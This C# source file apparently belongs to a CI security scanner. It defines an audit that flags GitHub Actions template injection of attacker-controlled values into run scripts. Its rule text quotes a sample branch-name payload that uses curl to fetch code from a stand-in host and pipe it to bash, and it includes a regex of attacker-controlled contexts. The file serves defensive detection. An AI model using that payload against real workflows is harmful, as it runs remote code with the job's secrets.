using System.Text.RegularExpressions;

namespace Moat.Analysis.Workflows.Audits;

/// <summary>
/// Attacker-controlled context (a branch name, a pull request title, a comment) expanded with <c>${{ }}</c> straight
/// into a shell script or a github-script body, where it becomes code.
/// </summary>
public static partial class TemplateInjectionAudit
{
    public static readonly Rule Rule = new(
        "MOAT-CI-005",
        "template-injection",
        "Attacker-controlled context is expanded into a run: script or github-script code.",
        Severity.High,
        "`${{ }}` expressions are substituted into the script text before the shell sees it. A branch name like " +
        "`$({curl,-sSfL,example.invalid/x}|bash)` (the Ultralytics attack), a pull request title or an issue comment " +
        "therefore runs as code with the job's token and secrets. Pass the value through an environment variable " +
        "(`env: TITLE: ${{ github.event.pull_request.title }}` and `\"$TITLE\"` in the script) so it stays data. " +
        "Critical under triggers that carry secrets for outside contributors (pull_request_target, issue_comment, " +
        "issues, discussion, workflow_run).",
        ["https://securitylab.github.com/resources/github-actions-untrusted-input/", "https://docs.zizmor.sh/audits/#template-injection"]);

    private static readonly HashSet<string> PrivilegedTriggers = new(StringComparer.Ordinal)
    {
        "pull_request_target", "issue_comment", "issues", "discussion", "discussion_comment", "workflow_run",
        "pull_request_review", "pull_request_review_comment",
    };

    public static IEnumerable<Finding> Run(Workflow workflow)
    {
        if (workflow.Dialect == CiDialect.GitLab) yield break;
        var privileged = workflow.Triggers.Any(t => PrivilegedTriggers.Contains(t.Name));
        foreach (var (job, step) in workflow.AllSteps())
        {
            foreach (var script in SecretExfiltrationAudit.Scripts(step))
            {
                foreach (var expression in WorkflowScripts.Expressions(script.Value))
                {
                    var match = AttackerControlled().Match(expression.Inner);
                    if (!match.Success) continue;
                    yield return new Finding(Rule.Id, privileged ? Severity.Critical : Severity.High, Confidence.High,
                        $"step '{step.Describe()}' in job '{job.Id}' expands attacker-controlled {match.Value} into code; pass it through env",
                        workflow.Locate(script, expression.Offset),
                        script.Value.Substring(expression.Offset, expression.Length));
                }
            }
        }
    }

    // Contexts an outside contributor controls. github.event.inputs (workflow_dispatch) needs write access: not listed.
    [GeneratedRegex(@"github\.head_ref|github\.event\.(?:pull_request|issue|discussion)\.(?:title|body)|\.head\.(?:ref|label)\b|\.head\.repo\.(?:default_branch|name|full_name|description)|\.comment\.body|\.review\.body|\.review_comment\.body|pages\b.*\.page_name|(?:head_commit|commits\b.*?)\.(?:message|author\.(?:email|name)|committer\.(?:email|name))|workflow_run\.(?:head_branch|display_title|head_commit\.message)|\.changes\.title\.from")]
    private static partial Regex AttackerControlled();
}
